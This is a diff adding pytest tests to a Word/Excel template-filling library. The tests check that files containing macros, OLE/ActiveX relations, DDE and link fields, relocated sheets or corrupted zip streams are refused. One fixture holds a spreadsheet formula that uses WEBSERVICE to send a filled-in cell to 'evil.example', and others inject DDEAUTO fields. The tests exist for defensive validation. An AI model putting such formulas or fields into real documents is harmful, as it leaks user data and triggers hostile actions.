@@ -10,7 +10,7 @@ from docx.shared import Pt
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.worksheet.datavalidation import DataValidation
 
-from dangjian.filling import Found, List, Unfillable, Values, Vocabulary, examine, fill, kind_of
+from dangjian.filling import Found, List, Unfillable, Values, Vocabulary, examine, fill, kind_of, opened
 
 pytestmark = pytest.mark.once
 WORDS = Vocabulary(
@@ -169,6 +169,51 @@ def changed(change, made=form) -> bytes:
     return saved(one)
 
 
+def part(content: bytes, name: str) -> bytes:
+    with zipfile.ZipFile(BytesIO(content)) as held:
+        return held.read(name)
+
+
+def related(kind: str, target: str) -> dict[str, bytes]:
+    """A relation of the document to one more part."""
+    said = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}"/>'
+    return {
+        "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        f'relationships">{said}</Relationships>'.encode()
+    }
+
+
+def with_fields(name: str, *fields: tuple[str, ...]) -> bytes:
+    """A document with a part of fields, each in one or more runs."""
+    begin, end = (f'<w:fldChar w:fldCharType="{one}"/>' for one in ("begin", "end"))
+    said = "".join(begin + "".join(f"<w:instrText>{run}</w:instrText>" for run in runs) + end for runs in fields)
+    spaces = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    return with_parts(saved(form()), {name: f"<w:hdr {spaces}><w:p><w:r>{said}</w:r></w:p></w:hdr>".encode()})
+
+
+def with_sheet_at(target: str) -> bytes:
+    """A workbook whose second sheet lies elsewhere, and computes with what is filled into the first."""
+    made = book()
+    made.create_sheet("二")["A1"] = '=WEBSERVICE("http://evil.example/"&签到表!B3)'
+    content = saved(made)
+    links = part(content, "xl/_rels/workbook.xml.rels").replace(b"/xl/worksheets/sheet2.xml", target.encode())
+    sheet = part(content, "xl/worksheets/sheet2.xml")
+    return with_parts(
+        content,
+        {"xl/_rels/workbook.xml.rels": links, target.lstrip("/"): sheet, "xl/worksheets/sheet2.xml": b"<x/>"},
+    )
+
+
+def torn(method: int) -> bytes:
+    """A stream that cannot be unpacked."""
+    body = BytesIO()
+    with zipfile.ZipFile(body, "w", method) as made:
+        made.writestr("word/document.xml", bytes(600))
+    at = body.getvalue().index(b"word/document.xml") + 17
+    at += 4 if method == zipfile.ZIP_LZMA else 0  # its version and the length of what follows
+    return body.getvalue()[:at] + b"\xff" * 8 + body.getvalue()[at + 8 :]
+
+
 def text(said: str):
     return lambda made: made.add_paragraph(said)
 
@@ -225,6 +270,53 @@ def test_what_cannot_be_filled_is_refused_with_a_sentence():
         with pytest.raises(Unfillable) as refusal:
             examine(content, WORDS)
         assert sentence in str(refusal.value), name
+
+
+def test_what_acts_is_found_under_any_name():
+    for name, content, sentence in (
+        ("sheet elsewhere", with_sheet_at("/xl/other/a.xml"), "文件不完整或已损坏"),
+        ("sheet as a chart", with_sheet_at("/xl/chartsheets/a.xml"), "xl/chartsheets/a.xml!A1里有公式"),
+        ("deep header", with_fields("word/x/h.xml", ("INCLUDEPICTURE a",)), "word/x/h.xml"),
+        ("header elsewhere", with_fields("custom/h.xml", ("DD", "E a")), "custom/h.xml"),
+        ("capitals", with_fields("word/h.XML", ("DDEAUTO a",)), "word/h.XML"),
+        ("two fields", with_fields("word/h.xml", ("REF HYPER",), ("LINK a",)), "链接了别处的文件"),
+        ("not a field's name", with_fields("word/h.xml", ("XHYPERLINK a",)), "链接了别处的文件"),
+        ("header by another ending", with_parts(saved(form()), related("header", "h.dat")), "文件不完整或已损坏"),
+        ("capitals of relations", with_parts(
+            saved(form()), {"word/_rels/a.xml.RELS": related("oleObject", "a.dat").popitem()[1]}
+        ), "链接了别处的文件"),
+        *((kind, with_parts(saved(form()), related(kind, "a.dat")), "文件里有宏") for kind in (
+            *("vbaProject", "control", "package", "activeXControlBinary", "ctrlProp", "queryTable", "connections"),
+            *("xlMacrosheet", "xlIntlMacrosheet", "dialogsheet"),
+        )),
+    ):  # fmt: skip
+        with pytest.raises(Unfillable) as refusal:
+            examine(content, WORDS)
+        assert sentence in str(refusal.value), name
+    assert examine(with_fields("word/h.xml", ("HYPER", 'LINK "a"'), ("REF a",), ("PAGE",)), WORDS)
+
+
+def test_a_file_that_turns_out_damaged_is_refused_at_every_step():
+    whole = saved(book())
+    sheet = part(whole, "xl/worksheets/sheet1.xml")
+    broken = sheet.replace(b"</sheetData>", b'</sheetData><rowBreaks><brk id="x"/></rowBreaks>')
+    rows = sheet.replace(b'<row r="1"', b'<row r="x"')
+    for step, content in (
+        *((lambda said: examine(said, WORDS), torn(method)) for method in (zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA)),
+        (kind_of, with_parts(whole, {"xl/worksheets/sheet1.xml": rows})),
+        (lambda said: fill(said, VALUES), with_parts(whole, {"xl/worksheets/sheet1.xml": broken})),
+    ):
+        with pytest.raises(Unfillable, match="文件不完整或已损坏"):
+            step(content)
+
+
+def test_no_more_placeholders_are_placed_than_may_stand():
+    made = form()
+    for _ in range(3):
+        made.add_paragraph("{{主题}}" * 400)
+    assert len(opened(saved(made)).found()) == 501
+    with pytest.raises(Unfillable, match="占位符超过500个"):
+        examine(saved(made), WORDS)
 
 
 def test_rows_do_not_grow_without_measure():
